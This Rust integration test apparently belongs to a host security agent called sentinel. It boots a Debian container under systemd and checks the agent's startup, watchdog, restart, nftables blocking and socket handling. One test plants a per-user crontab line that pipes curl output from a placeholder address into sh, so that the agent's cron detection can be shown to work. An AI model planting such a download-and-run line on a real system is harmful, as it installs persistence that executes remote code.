//! The unit under a real systemd. A Debian container booted with systemd as PID 1
//! (`debootstrap` once, cached under /var/cache/sentinel-test; `systemd-nspawn --boot` on a
//! copy-on-write overlay of it for each run, so the cache stays clean) gets the agent
//! through `cargo xtask install --destdir`, and the test checks what an operator relies on:
//! `systemctl start` returns once the agent said READY=1 and the unit is active; the watchdog
//! keeps it alive past 60 s; `kill -9` of the main process is restarted; a block lands in
//! nftables from inside the sandbox; a per-user crontab (mode 0600, owned by `www-data`, which
//! only CAP_DAC_READ_SEARCH lets the sandboxed root read) raises a `cron` alert; `systemctl
//! stop` is clean. The override endpoint's port
//! is `sentinel.socket`'s from boot (a user process cannot take it before the agent starts),
//! and the agent serves on that socket, again after its restart.
//!
//! This host has no systemd as PID 1, so the container runs unregistered
//! (`--register=no --keep-unit`), with every capability and the `bpf`/`perf_event_open`
//! system calls allowed so that the agent can load its programs. It shares the host's network
//! namespace: the agent's table is the test's own (`tests/common/nft.rs`) and the blocked
//! address is a test host (`tests/common/netns.rs`). The host's tracefs is bound in, as
//! systemd's `sys-kernel-tracing.mount` would mount it on a real machine.
//!
//! Needs root, `debootstrap` and `systemd-nspawn` (`scripts/setup.sh` installs them); the
//! first run builds the container root from Debian's mirror (about 6 minutes on 2 cores) and
//! skips loudly when the mirror cannot be reached.

mod common;

use std::{
    fs,
    path::{Path, PathBuf},
    process::{Child, Command, Output, Stdio},
    thread,
    time::{Duration, Instant},
};

use common::{
    BIN, TEST_COUNTRIES, mmdb,
    netns::{RU4, TestNet, knock},
    nft::Table,
    require_root, serial,
};

fn workspace() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .unwrap()
        .to_path_buf()
}

/// `cargo xtask install --destdir DIR` with the binary under test and the test GeoIP db.
fn install(stage: &Path) -> PathBuf {
    let geoip = stage.join("test-country.mmdb");
    mmdb::write_country_db(&geoip, mmdb::Layout::Flat, &TEST_COUNTRIES).unwrap();
    let root = stage.join("root");
    let out = Command::new(option_env!("CARGO").unwrap_or("cargo"))
        .args([
            "run",
            "--quiet",
            "--package",
            "xtask",
            "--",
            "install",
            "--destdir",
        ])
        .arg(&root)
        .args(["--binary", BIN, "--geoip"])
        .arg(&geoip)
        .current_dir(workspace())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "install failed:\n{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    root
}

/// A booted container on an overlay of the cached root; powered off and unmounted on drop.
struct Container {
    nspawn: Child,
    leader: u32,
    merged: PathBuf,
    _dir: tempfile::TempDir,
}

impl Container {
    /// Boot `root` with `staged` copied over it.
    fn boot(root: &Path, staged: &Path, edit_config: impl Fn(&str) -> String) -> Container {
        let dir = tempfile::tempdir().unwrap();
        let (upper, work, merged) = (
            dir.path().join("upper"),
            dir.path().join("work"),
            dir.path().join("merged"),
        );
        for d in [&upper, &work, &merged] {
            fs::create_dir(d).unwrap();
        }
        let options = format!(
            "lowerdir={},upperdir={},workdir={}",
            root.display(),
            upper.display(),
            work.display()
        );
        run(Command::new("mount")
            .args(["-t", "overlay", "overlay", "-o", &options])
            .arg(&merged));
        run(Command::new("cp")
            .arg("-a")
            .arg(format!("{}/.", staged.display()))
            .arg(&merged));
        let config = merged.join("etc/sentinel/sentinel.toml");
        fs::write(&config, edit_config(&fs::read_to_string(&config).unwrap())).unwrap();
        let nspawn = Command::new("systemd-nspawn")
            .arg("--directory")
            .arg(&merged)
            .args([
                "--boot",
                "--register=no",
                "--keep-unit",
                "--capability=all",
                "--system-call-filter=bpf perf_event_open",
                "--bind=/sys/kernel/tracing",
                "--console=passive",
                "--quiet",
            ])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut container = Container {
            leader: 0,
            nspawn,
            merged,
            _dir: dir,
        };
        container.leader = container.wait_for_leader();
        container.wait_until("systemd has booted", Duration::from_secs(90), |c| {
            let state = c.sh(&["systemctl", "is-system-running"]);
            ["running", "degraded"].contains(&state.trim())
        });
        container
    }

    /// The container's PID 1, as the host sees it: nspawn's child.
    fn wait_for_leader(&self) -> u32 {
        let deadline = Instant::now() + Duration::from_secs(30);
        loop {
            let children =
                fs::read_to_string(format!("/proc/{0}/task/{0}/children", self.nspawn.id()))
                    .unwrap_or_default();
            if let Some(pid) = children.split_whitespace().next() {
                return pid.parse().unwrap();
            }
            assert!(
                Instant::now() < deadline,
                "systemd-nspawn started no container"
            );
            thread::sleep(Duration::from_millis(100));
        }
    }

    /// Run a command inside the container (all its namespaces).
    fn exec(&self, args: &[&str]) -> Output {
        Command::new("nsenter")
            .args(["--target", &self.leader.to_string(), "--all", "--"])
            .args(args)
            .output()
            .unwrap()
    }

    /// A command's standard output (its failure is the caller's to judge).
    fn sh(&self, args: &[&str]) -> String {
        String::from_utf8_lossy(&self.exec(args).stdout).into_owned()
    }

    /// `systemctl show sentinel -p PROP --value`.
    fn unit(&self, prop: &str) -> String {
        self.sh(&["systemctl", "show", "sentinel", "-p", prop, "--value"])
            .trim()
            .to_string()
    }

    fn wait_until(&self, what: &str, limit: Duration, done: impl Fn(&Container) -> bool) {
        let deadline = Instant::now() + limit;
        while !done(self) {
            assert!(
                Instant::now() < deadline,
                "{what}: not within {limit:?}\n{}",
                self.journal()
            );
            thread::sleep(Duration::from_millis(250));
        }
    }

    fn journal(&self) -> String {
        self.sh(&["journalctl", "-u", "sentinel", "--no-pager", "-n", "40"])
    }

    /// The alerts the agent stored (`sentinel tail --json --kind alert`).
    fn alerts(&self) -> Vec<serde_json::Value> {
        self.sh(&[
            "sentinel", "tail", "--json", "--kind", "alert", "-n", "100000",
        ])
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
    }
}

impl Drop for Container {
    fn drop(&mut self) {
        let _ = self.exec(&["systemctl", "poweroff"]);
        let deadline = Instant::now() + Duration::from_secs(30);
        while Instant::now() < deadline {
            if let Ok(Some(_)) = self.nspawn.try_wait() {
                break;
            }
            thread::sleep(Duration::from_millis(200));
        }
        if let Ok(None) = self.nspawn.try_wait() {
            let _ = self.nspawn.kill();
            let _ = self.nspawn.wait();
        }
        let _ = Command::new("umount")
            .arg("--lazy")
            .arg(&self.merged)
            .output();
    }
}

/// Point the staged `sentinel.socket` at a free port and enable it (as `systemctl enable`
/// would); the port.
fn override_socket_at_boot(staged: &Path) -> u16 {
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let unit = staged.join("etc/systemd/system/sentinel.socket");
    let text = fs::read_to_string(&unit).unwrap();
    assert!(text.contains("ListenStream=127.0.0.1:8787"), "{text}");
    fs::write(
        &unit,
        text.replace("127.0.0.1:8787", &format!("127.0.0.1:{port}")),
    )
    .unwrap();
    let wants = staged.join("etc/systemd/system/sockets.target.wants");
    fs::create_dir_all(&wants).unwrap();
    std::os::unix::fs::symlink(
        "/etc/systemd/system/sentinel.socket",
        wants.join("sentinel.socket"),
    )
    .unwrap();
    port
}

/// The agent says it listens on systemd's socket, and answers HTTP there.
fn assert_override_served(container: &Container, port: u16) {
    let deadline = Instant::now() + Duration::from_secs(15);
    loop {
        let out = container.exec(&["sentinel", "status", "--json"]);
        let status: serde_json::Value =
            serde_json::from_slice(&out.stdout).unwrap_or(serde_json::Value::Null);
        if status["override"]["listening"] == true {
            assert_eq!(status["override"]["socket"], "systemd", "{status}");
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the override endpoint is not served: {status}\n{}",
            container.journal()
        );
        thread::sleep(Duration::from_millis(250));
    }
    use std::io::{Read, Write};
    let mut conn = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    conn.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    conn.write_all(b"GET /decide HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        .unwrap();
    let mut reply = String::new();
    let _ = conn.read_to_string(&mut reply);
    assert!(
        reply.starts_with("HTTP/1.1 "),
        "no HTTP answer on the socket: {reply:?}"
    );
}

/// The per-user crontab directory as the `cron` package makes it (mode 1730; root:root here,
/// the base system has no `crontab` group), staged before boot: the agent watches what exists
/// when it starts.
fn crontab_dir_at_boot(staged: &Path) {
    use std::os::unix::fs::PermissionsExt;
    let dir = staged.join(CRONTABS.trim_start_matches('/'));
    fs::create_dir_all(&dir).unwrap();
    fs::set_permissions(&dir, fs::Permissions::from_mode(0o1730)).unwrap();
}

/// Where `crontab -e` keeps per-user crontabs.
const CRONTABS: &str = "/var/spool/cron/crontabs";

/// `www-data` (uid 33 in Debian's base passwd) installs a download-and-run crontab the way
/// `crontab(1)` does: a `tmp.` file in the directory, mode 0600, renamed into place. The agent
/// must read it (only CAP_DAC_READ_SEARCH lets root past mode 0600 here) and raise `cron`.
fn assert_user_crontab_seen(container: &Container) {
    let file = format!("{CRONTABS}/www-data");
    let script = format!(
        "umask 077 && printf '%s\\n' '* * * * * curl -s http://198.51.100.2/x | sh' \
         > {CRONTABS}/tmp.sentinel && chown 33:33 {CRONTABS}/tmp.sentinel && \
         chmod 0600 {CRONTABS}/tmp.sentinel && mv {CRONTABS}/tmp.sentinel {file}"
    );
    let out = container.exec(&["sh", "-c", &script]);
    assert!(
        out.status.success(),
        "writing {file}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let alerts = container.alerts();
        let about_it = |anomaly: &str| {
            alerts.iter().any(|a| {
                a["anomaly"] == anomaly && a["detail"].as_str().is_some_and(|d| d.contains(&file))
            })
        };
        if about_it("cron") {
            assert!(
                !about_it("switch_flood"),
                "the agent could not read {file}: {alerts:?}"
            );
            return;
        }
        assert!(
            Instant::now() < deadline,
            "no cron alert for {file} within 30 s; alerts: {alerts:?}\n{}",
            container.journal()
        );
        thread::sleep(Duration::from_millis(500));
    }
}

fn run(command: &mut Command) {
    let out = command.output().unwrap();
    assert!(
        out.status.success(),
        "{command:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn the_unit_runs_under_systemd() {
    if !require_root("the_unit_runs_under_systemd") {
        return;
    }
    let Some(root) = common::debian::root() else {
        return;
    };
    let _serial = serial();
    let started = Instant::now();
    let stage = tempfile::tempdir().unwrap();
    let staged = install(stage.path());
    let table = Table::new("sd");
    let _net = TestNet::new("sd");
    // The override endpoint on a free port (the container shares the host's network), its
    // socket unit enabled as on an installed host: systemd binds it at boot.
    let port = override_socket_at_boot(&staged);
    crontab_dir_at_boot(&staged);
    let container = Container::boot(&root, &staged, |config| {
        config
            .replace("table = \"sentinel\"", &format!("table = \"{}\"", table.0))
            .replace("connect_guard = true", "connect_guard = false")
            .replace("countdown = \"5m\"", "countdown = \"2s\"")
            .replace(
                "listen = \"127.0.0.1:8787\"",
                &format!("listen = \"127.0.0.1:{port}\""),
            )
            .replace(
                "public_url = \"\"",
                &format!("public_url = \"http://127.0.0.1:{port}\""),
            )
    });
    // Booted, agent not started yet: the port is systemd's, so no user can take it first.
    let squat = std::net::TcpListener::bind(("127.0.0.1", port));
    assert!(
        squat.is_err(),
        "a user could take the override port before the agent started"
    );
    eprintln!("container booted in {:.1?}", started.elapsed());

    // Type=notify: `systemctl start` returns once the agent sent READY=1, i.e. with the
    // sensors attached and the CLI socket answering.
    let start = container.exec(&["systemctl", "start", "sentinel"]);
    assert!(
        start.status.success(),
        "systemctl start: {}\n{}",
        String::from_utf8_lossy(&start.stderr),
        container.journal()
    );
    assert_eq!(container.unit("ActiveState"), "active");
    assert_eq!(container.unit("SubState"), "running");
    let status = container.exec(&["sentinel", "status", "--json"]);
    assert!(
        status.status.success(),
        "the agent did not answer right after start: {}",
        String::from_utf8_lossy(&status.stderr)
    );
    let main_pid = container.unit("MainPID");
    assert_ne!(main_pid, "0");
    // The agent serves the override endpoint on systemd's socket.
    assert_override_served(&container, port);

    // A block lands in the test's nftables table, installed from inside the sandbox.
    knock(RU4, 9311);
    let deadline = Instant::now() + Duration::from_secs(30);
    while !table.elements("block4").iter().any(|(a, _)| a == RU4) {
        assert!(
            Instant::now() < deadline,
            "no block for {RU4} within 30 s\n{}",
            container.journal()
        );
        thread::sleep(Duration::from_millis(250));
    }

    // A web exploit's favourite persistence, a per-user crontab, is read and judged.
    assert_user_crontab_seen(&container);

    // The watchdog (WatchdogSec=30s) is fed: the same process is still running after 65 s.
    let since = Instant::now();
    while since.elapsed() < Duration::from_secs(65) {
        thread::sleep(Duration::from_secs(5));
        assert_eq!(
            container.unit("MainPID"),
            main_pid,
            "{}",
            container.journal()
        );
    }
    assert_eq!(container.unit("NRestarts"), "0", "{}", container.journal());
    assert_eq!(container.unit("ActiveState"), "active");

    // kill -9 of the main process: systemd starts it again.
    // (The minimal container has no /bin/kill: the shell's builtin.)
    let kill = container.exec(&["sh", "-c", &format!("kill -9 {main_pid}")]);
    assert!(
        kill.status.success(),
        "kill -9 {main_pid}: {}",
        String::from_utf8_lossy(&kill.stderr)
    );
    container.wait_until("restarted after kill -9", Duration::from_secs(60), |c| {
        let pid = c.unit("MainPID");
        c.unit("ActiveState") == "active" && pid != "0" && pid != main_pid
    });
    assert_eq!(container.unit("NRestarts"), "1");
    let status = container.exec(&["sentinel", "status", "--json"]);
    assert!(
        status.status.success(),
        "the restarted agent does not answer"
    );
    // systemd kept the socket across the restart and handed it over again.
    assert_override_served(&container, port);

    // A clean stop.
    let stop = container.exec(&["systemctl", "stop", "sentinel"]);
    assert!(stop.status.success(), "{}", container.journal());
    assert_eq!(container.unit("ActiveState"), "inactive");
    assert_eq!(
        container.unit("Result"),
        "success",
        "{}",
        container.journal()
    );
    let journal = container.journal();
    assert!(journal.contains("stopped"), "{journal}");
    eprintln!("systemd test took {:.1?}", started.elapsed());
}
